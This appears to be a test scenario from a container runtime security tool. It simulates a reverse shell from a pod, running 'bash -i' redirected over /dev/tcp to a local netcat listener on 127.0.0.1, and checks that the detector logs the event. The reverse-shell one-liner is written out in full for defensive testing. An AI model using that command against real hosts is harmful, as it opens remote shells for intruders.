# a reverse shell: bash -i on a TCP socket to a listener on 127.0.0.1
SCN_DESCRIPTION='Reverse shell from a pod: bash -i with its stdio on a TCP connection to a listener on 127.0.0.1 (the container image is the busybox one plus bash and its libraries from the node; host network).'
scenario() {
	CID=$(ctr_id)
	# an image with bash: the node's, with the libraries it links
	cp -a "$ROOTFS/rootfs" "$WORK/bashroot"
	cp /bin/bash "$WORK/bashroot/bin/bash"
	for lib in $(ldd /bin/bash | grep -o '/[^ ]*'); do
		mkdir -p "$WORK/bashroot$(dirname "$lib")"
		cp -L "$lib" "$WORK/bashroot$lib"
	done
	SCN_ROOT=$WORK/bashroot ctr_start "$CID" /bin/sh -c 'sleep 600'
	port=$((20000 + $$ % 10000))
	(printf 'id\n'; sleep 2; printf 'exit\n') | busybox nc -l -p $port >/dev/null &
	listener=$!
	sleep 0.5
	ctr_exec "$CID" /bin/bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" </dev/null >/dev/null 2>&1 || true
	wait $listener || true
	expect exec k8s.pod.name=web-5d8f process.executable.name=bash shell.name=bash entry=spawned
	expect mstats process.executable.name=bash k8s.node.name=worker-1
}
scenario_cleanup() { ctr_rm "$CID"; }
